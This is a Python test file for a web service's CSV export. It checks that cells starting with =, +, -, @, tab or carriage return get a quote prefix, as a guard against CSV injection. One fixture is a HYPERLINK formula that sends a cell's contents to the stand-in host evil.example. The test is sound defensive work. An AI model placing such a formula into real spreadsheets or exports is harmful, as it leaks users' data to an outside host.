"""CSV exports: a cell a spreadsheet would run as a formula is neutralised (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io

import httpx

from tests.api import login, post
from tests.data import create_dataset, import_file, jsonl, wait_for_job
from tests.stack import BASE_URL

EXPORT = """
mutation($d: ID!) {
  exportItems(datasetId: $d, format: CSV) { __typename ... on JobSuccess { job { id } } }
}
"""


def test_csv_cells_that_start_a_formula_are_prefixed_with_a_quote() -> None:
    # given items whose text starts with every formula trigger, and one that does not
    token = login("admin", "admin")
    dataset = create_dataset(token)
    texts = {
        "eq": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "plus": "+1+2",
        "minus": "-2+3",
        "at": "@SUM(A1:A2)",
        "tab": "\t=1+1",
        "cr": "\r=1+1",
        "plain": "a plain 2+2=4 text",
    }
    import_file(token, dataset, jsonl([{"id": key, "text": text} for key, text in texts.items()]), "formulas.jsonl")
    # when they are exported as CSV
    result = post(EXPORT, {"d": dataset}, token)["data"]["exportItems"]
    job = wait_for_job(token, result["job"]["id"])
    response = httpx.get(f"{BASE_URL}{job['result']['download']}", headers={"Authorization": f"Bearer {token}"})
    # then every cell that starts with = + - @ tab or CR starts with a quote, the others are as they were
    cells = {row["id"]: row["text"] for row in csv.DictReader(io.StringIO(response.text, newline=""))}
    assert cells == {
        "eq": "'" + texts["eq"],
        "plus": "'+1+2",
        "minus": "'-2+3",
        "at": "'@SUM(A1:A2)",
        "tab": "'\t=1+1",
        "cr": "'\r=1+1",
        "plain": "a plain 2+2=4 text",
    }
